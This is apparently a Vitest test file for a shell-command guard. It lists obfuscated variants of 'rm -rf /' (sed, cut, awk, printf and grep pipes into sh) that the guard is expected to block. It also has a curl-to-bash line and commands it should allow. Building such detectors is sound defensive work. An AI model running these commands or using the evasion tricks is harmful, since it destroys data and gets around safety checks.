import { describe, expect, test } from "vitest";
import { outcomeOf } from "../guard-outcome.ts";

const BLOCKED = [
  "echo 'xm -rf /' | sed 's/x/r/' | sh",
  "echo 'rm_-rf_/' | sed 's/_/ /g' | sh",
  "echo 'rm -rf @' | sed -e 's|@|/|' | bash",
  "echo 'sn -sg /' | sed 'y/sng/rmf/' | sed 's/-rf/-rf/' | bash",
  "echo 'a;rm -rf /' | sed 's/^a;//' | bash",
  "echo 'rm -rf /etcX' | sed 's/X$//' | sh",
  "echo 'say rm -rf /' | sed 's/say \\(.*\\)/x/;' ; rm -rf $(echo / | sed 's/x/y/')",
  "echo 'rm -rf /:foo' | cut -d: -f1 | bash",
  "echo 'zzrm -rf /' | cut -c3- | bash",
  "echo 'rm,-rf,/' | cut -d, --output-delimiter=' ' -f1-3 | bash",
  "printf 'ls\\nrm -rf /\\n' | tail -n1 | sh",
  "printf 'rm -rf /\\nls\\n' | head -1 | sh",
  "printf 'rm -rf /XX' | head -c 8 | sh",
  "printf 'b\\nrm -rf /\\n' | sort | sh",
  "printf 'ls\\nrm -rf /\\n' | tac | head -n 1 | sh",
  "printf 'rm\\n-rf\\n/\\n' | paste -sd ' ' | sh",
  "printf 'ls\\nrm -rf /\\n' | grep rm | sh",
  "printf 'ls\\nrm -rf /\\n' | grep -v '^ls' | sh",
  "printf 'ls\\nrm -rf /\\n' | grep -e 'r.*f' | sh",
  "echo 'x rm -rf /' | awk '{print $2, $3, $4}' | sh",
  "echo 'x:rm -rf /' | awk -F: '{print $2}' | sh",
  "awk 'BEGIN { print \"rm -rf /\" }' | sh",
  "sed '1e rm -rf /' notes.txt",
  "sed 's/.*/rm -rf \\//e' <<< x",
];

const ASKED = [
  "cat script | sed 's/a/b/' | sh",
  "curl -s https://example.invalid/x | grep sh | bash",
  "echo 'aXb' | sed 's/\\(a\\)X/\\1/' | sh",
  "echo x | awk '{ if ($1) print $1 }' | sh",
];

const ALLOWED = [
  "sed -i 's/rm -rf/echo/' deploy.sh",
  "grep -c 'rm -rf /' deploy.sh",
  "x=$(grep -c error log); [[ $x -gt 3 ]] && echo many",
  "n=$(df / | tr -dc '0-9'); (( n > 90 )) && echo full",
  "echo 'rm -rf /' | sed 's/rm/ls/'",
  "cut -d: -f1 /etc/passwd | sort | uniq | head -n 3",
];

describe("text that goes through filters", () => {
  test.each(BLOCKED)("%j is blocked", (command) => {
    expect(outcomeOf(command)).toBe("block");
  });

  test.each(ASKED)("%j is asked about", (command) => {
    expect(outcomeOf(command)).toBe("ask");
  });

  test.each(ALLOWED)("%j runs", (command) => {
    expect(outcomeOf(command)).toBe("allow");
  });
});
